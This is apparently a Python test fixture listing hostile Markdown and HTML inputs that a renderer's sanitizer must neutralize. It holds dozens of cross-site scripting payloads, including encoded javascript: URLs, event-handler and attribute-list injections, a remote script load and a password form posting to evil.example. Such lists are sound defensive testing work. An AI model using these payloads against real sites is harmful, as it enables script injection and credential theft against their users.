"""Hostile Markdown and HTML that must come out of the renderer harmless.

A module-level list so browser tests can reuse it: each entry is a Markdown text as an
author (or an attacker with an author account) could write it.
"""

from __future__ import annotations

HOSTILE: list[str] = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div class="admonition note" onclick="alert(1)">x</div>',
    "<a href=x onmouseover=alert(1)>unclosed",
    '<p title="x" onpointerenter="alert(1)">x</p>',
    # svg and math
    "<svg onload=alert(1)><circle r=5/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    # URLs in HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="javascript:alert(1)">',
    '<img src=" DATA:image/png;base64,AAAA">',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # embedding and forms
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name="p" type="password"></form>',
    "<button formaction=javascript:alert(1)>Go</button><textarea>x</textarea>",
    # malformed and nested
    "<p><b><i>nested</b></i></p><div><div><div>deep",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" <script>alert(1)</script>>x</a>',
    "<img src=x onerror=alert(1)//",
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][img]\n\n[img]: data:image/svg+xml,<svg/onload=alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    '[x](https://ok.example "t" onmouseover=alert(1))',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    # attribute lists
    '## Heading {: onclick="alert(1)" style="color:red" }',
    "Paragraph\n{: onmouseover=alert(1) }",
    "[x](https://ok.example){: onclick=alert(1) href=javascript:alert(1) }",
    "![x](images/a.png){: onerror=alert(1) src=javascript:alert(1) }",
    "## Heading {: #x onfocus=alert(1) autofocus tabindex=1 }",
    # other extensions
    "```html\n<script>alert(1)</script>\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '!!! danger onclick="alert(1)"\n    body',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "::: lens gender\n<script>alert(1)</script>\n[x](javascript:alert(1))\n:::",
]
